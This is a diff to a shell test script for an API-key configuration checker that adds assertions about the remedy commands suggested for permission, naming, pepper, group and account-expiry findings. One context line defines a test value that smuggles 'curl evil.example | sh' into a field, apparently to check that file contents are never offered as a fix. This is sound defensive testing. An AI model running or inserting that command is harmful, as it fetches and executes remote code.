@@ -41,8 +41,6 @@ sick "$(conf 'argon2id = { max_memory = 2000000; };')" warning \
 sick "$(conf 'local_services = [ "su", "sshd" ];')" warning \
     etc/apikey/apikey.conf 'sshd is among local_services'
 
-# mend_is MEND: as it stands with the finding of the last case.
-mend_is() { want "the mend after: $DONE" "$(cut -f 4 <<<"$OUT")" "$1"; }
 t 'check: what a file holds is no mend'
 evil='q; curl evil.example | sh'
 line='mend the line: until then every key is refused (apikey.conf(5))'
@@ -84,7 +82,7 @@ sick "$(conf 'pepper = "/etc/apikey/keys.d/.pepper";'); umask 77;
 t 'check: owners and modes of every path'
 only
 sick 'chmod g+w etc' error etc 'writable by its group'
-mend_is 'chmod go-w it'
+mend_is "chmod go-w $R/etc"
 in_tree "chmod g+w etc $KEYS/$KEY.conf; chmod o+w $KEYS"
 look 8
 want_finding error etc 'its group'
@@ -98,6 +96,7 @@ sick 'chmod g+w etc/apikey/keys.d' error etc/apikey/keys.d \
     'writable by its group'
 sick 'chmod 750 etc/apikey/keys.d' warning etc/apikey/keys.d \
     'can be read by others'
+mend_is "chmod 700 $R/etc/apikey/keys.d"
 sick 'chmod 711 var/lib/apikey' warning var/lib/apikey \
     'can be read by others'
 sick 'chmod g+w var/lib/apikey' error var/lib/apikey 'writable'
@@ -166,6 +165,19 @@ sick "sed -i 's/blake2b.v=1/&,p=cb2f5160/' $KEYS/$KEY.conf" error \
     "$KEYS/$KEY.conf" 'the pepper cb2f5160, but the configuration names none'
 sick "$pepper; sed -i 's/blake2b.v=1/&,p=cb2f5160/' $KEYS/$KEY.conf" error \
     "$KEYS/$KEY.conf" 'the pepper cb2f5160, but the configured one'
+in_tree "$pepper; sed -i 's/blake2b.v=1/&,p=cb2f5160/' $KEYS/$KEY.conf
+    rm etc/apikey/pepper"
+look 8
+want_finding error etc/apikey/pepper 'is missing'
+want_finding error "$KEYS/$KEY.conf" 'needs the pepper, which is missing'
+# One that was renamed is not to be lost.
+sick "mv $KEYS/$KEY.conf $KEYS/foo.conf" error "$KEYS/foo.conf" \
+    'is not named by the id'
+mend_is "mv -n $R/$KEYS/foo.conf $R/$KEYS/$KEY.conf"
+sick "mv $KEYS/$KEY.conf '$KEYS/a b'" error "$KEYS/a b" 'is not named by'
+mend_is "rename it to $KEY.conf, the id that it holds"
+sick "cp $KEYS/$KEY.conf $KEYS/foo.conf" error "$KEYS/foo.conf" 'is not named'
+mend_is "move it away: the key $KEY has a file"
 revoked='revoked = { at = "2020-01-01T00:00:00Z"; };'
 sick "echo '$revoked' >>$KEYS/$KEY.conf" note "$KEYS" \
     "1 keys ended more than a year ago, one of them $KEY"
@@ -187,8 +199,10 @@ sick 'sed -i s/deploy/stranger/ etc/apikey/keys.d/*.conf' note \
     'user stranger' 'unknown here'
 sick 'sed -i s/deploy/alice/ etc/apikey/keys.d/*.conf' note 'user alice' \
     'not in a group that is asked for them \(apikey\)'
+mend_is "usermod -R $R -aG apikey alice"
 sick 'sed -i s/apikey:x:997:/\&root,/ etc/group' error 'user root' \
     'root is asked for a key'
+mend_is "gpasswd -Q $R -d root apikey (and give keys to accounts of their own)"
 sick 'sed -i s/apikey:x:997:/\&ghost,/ etc/group' note 'user ghost' \
     'unknown here'
 sick 'sed -i /deploy/s/bash/nologin/ etc/passwd' note 'user deploy' \
@@ -199,6 +213,7 @@ today=$(($(date +%s) / 86400))
 shadow() { echo "sed -i 's/^deploy:.*/deploy:!:$1/' etc/shadow"; }
 sick "$(shadow "19000:::::$today:")" warning 'user deploy' \
     'the account has expired'
+mend_is "chage -R $R -E -1 deploy"
 sound_after "$(shadow "19000:::::$((today + 1)):")"
 sick "$(shadow '0:0:99999:7:::')" warning 'user deploy' \
     'must be changed at once'
